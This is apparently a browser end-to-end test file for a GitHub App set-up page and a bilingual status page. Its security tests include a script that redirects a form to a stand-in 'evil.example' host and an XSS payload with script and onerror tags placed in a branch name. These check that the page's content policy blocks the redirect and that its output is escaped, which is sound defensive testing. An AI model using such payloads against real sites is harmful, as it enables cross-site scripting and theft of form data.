import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { listening } from '../../src/app/listening.ts';
import type { Pages } from '../../src/app/pages/page-request.ts';
import { pageServer } from '../../src/app/pages/page-server.ts';
import { placeFrom } from '../../src/app/settings.ts';
import { setUp } from '../../src/app/setup/set-up.ts';
import { statusPages } from '../../src/app/status/status-pages.ts';
import { fakePull, fakeStatusSource } from '../fakes/fake-status-source.ts';
import { githubPages, type GitHubPages } from '../fakes/github-pages.ts';

let [browser, context, github]: [Browser?, BrowserContext?, GitHubPages?] = [];
const complaints: string[] = [];

beforeAll(async () => {
  browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking'],
  });
});
afterAll(() => browser?.close());
beforeEach(async () => {
  github = await githubPages();
  context = await browser?.newContext({ locale: 'en-US' });
  complaints.length = 0;
});
afterEach(async () => {
  await context?.close();
  await github?.close();
});

/** A new page of a browser in English that remembers what the page's policy refused. */
async function newPage(): Promise<Page> {
  const page = (await context?.newPage()) ?? expect.unreachable();
  // A plain text has no icon, and a browser asks for one.
  page.on('console', (message) => {
    if (!message.location().url.endsWith('/favicon.ico')) complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(error.message));
  return page;
}

function standIn(): GitHubPages {
  return github ?? expect.unreachable();
}

describe('the set-up page in a real browser', () => {
  let folder = '';
  beforeEach(() => (folder = mkdtempSync(join(tmpdir(), 'beian-set-up-'))));
  afterEach(() => rmSync(folder, { recursive: true, force: true }));

  async function offered(): Promise<{ address: string; envFile: string; ended: Promise<void> }> {
    const envFile = join(folder, 'beian.env');
    const said: string[] = [];
    const variables = {
      HOST: '127.0.0.1',
      PORT: '0',
      GHE_HOST: standIn().host,
      GHE_PROTOCOL: 'http',
      ENV_FILE: envFile,
    };
    const ended = setUp(placeFrom(variables), undefined, (line) => said.push(line));
    await vi.waitUntil(() => said.length > 0);
    return { address: /http:\S+$/.exec(said[0] ?? '')?.[0] ?? '', envFile, ended };
  }

  it('registers the App: a button here, a button on GitHub, and the keys are on this machine', async () => {
    const { address, envFile, ended } = await offered();
    const page = await newPage();
    await page.goto(address);

    await page.locator('div[lang=en] button', { hasText: 'Register on GitHub' }).click();
    await page.getByText('Create GitHub App').click();
    const heading = await page.locator('h1:visible').innerText();

    await ended;
    expect(heading).toBe('The App is registered');
    expect(standIn().manifest).toMatchObject({
      public: false,
      hook_attributes: { url: `${new URL(address).origin}/api/github/webhooks` },
      default_permissions: { checks: 'write', metadata: 'read' },
    });
    expect(statSync(envFile).mode & 0o777).toBe(0o600);
    expect(readFileSync(envFile, 'utf8')).toMatch(/^APP_ID="4711"\nWEBHOOK_SECRET="f{40}"\nPRIVATE_KEY="-----BEGIN/);
    expect(standIn().referers.filter((from) => from.startsWith(new URL(address).origin))).toEqual([]);
    expect(complaints).toEqual([]);
    await expect(page.goto(address)).rejects.toThrow('ERR_CONNECTION_REFUSED');
  });

  it('registers under an organisation that is typed in', async () => {
    const { address, ended } = await offered();
    const page = await newPage();
    await page.goto(address);

    await page.locator('div[lang=en] input[name=organisation]').fill('poets');
    await page.locator('div[lang=en] button', { hasText: 'Choose' }).click();
    await page.locator('div[lang=en] button', { hasText: 'Register on GitHub' }).click();
    await page.getByText('Create GitHub App').click();

    await ended;
    expect(standIn().registeredUnder).toBe('/organizations/poets/settings/apps/new');
  });

  it('sends its form to nobody but GitHub', async () => {
    const { address } = await offered();
    const page = await newPage();
    await page.goto(address);

    await page.evaluate("document.forms[0].action = 'https://evil.example/'; document.forms[0].submit()");
    await vi.waitUntil(() => complaints.length > 0);

    expect(complaints.join(' ')).toContain('form-action');
    expect(page.url()).toBe(address);
  });
});

describe('the status page in a real browser', () => {
  const EVIL = '"><img src=x onerror=alert(1)><script>alert(1)</script>';
  const repository = { id: 1, owner: 'poets', repo: 'poems' };
  let server: Server | null = null;
  afterEach(() => {
    server?.closeAllConnections();
    server?.close();
  });

  async function served(): Promise<string> {
    let pages: Pages | null = null;
    server = pageServer((request) => pages?.(request) ?? expect.unreachable());
    const origin = `http://127.0.0.1:${await listening(server, '127.0.0.1', 0)}`;
    const settings = {
      origin,
      client: { id: 'Iv23client', secret: 'c'.repeat(40) },
      webUrl: standIn().url,
      baseUrl: `${standIn().url}/api/v3`,
    };
    const pull = fakePull({ baseBranch: EVIL });
    pages = statusPages(settings, fakeStatusSource([[repository, [pull]]]), () => performance.now());
    return origin;
  }

  it('lets a reader in through GitHub, in both languages, and out again', async () => {
    const origin = await served();
    standIn().readable.set('poets/poems', 1);
    const page = await newPage();

    await page.goto(`${origin}/status`);
    await page.getByText('Authorize').click();
    const english = await page.locator('h1:visible').innerText();
    await page.getByText('中文', { exact: true }).click();
    const chinese = await page.locator('h1:visible').innerText();
    const branch = await page.locator('td code:visible').first().innerText();
    const cookies = await context?.cookies();
    await page.getByText('退出').click();

    expect([english, chinese]).toEqual(['Pull requests under way', '进行中的拉取请求']);
    expect(branch).toBe(EVIL);
    expect(cookies).toMatchObject([{ name: 'beian-session', httpOnly: true, sameSite: 'Lax' }]);
    expect(await page.locator('body').innerText()).toContain('signed out');
    expect(complaints).toEqual([]);
    expect(await context?.cookies()).toEqual([]);
  });

  it('is not there for who may read no repository', async () => {
    const page = await newPage();
    await page.goto(`${await served()}/status`);

    await page.getByText('Authorize').click();

    expect(await page.locator('body').innerText()).toBe('not found\n');
  });
});
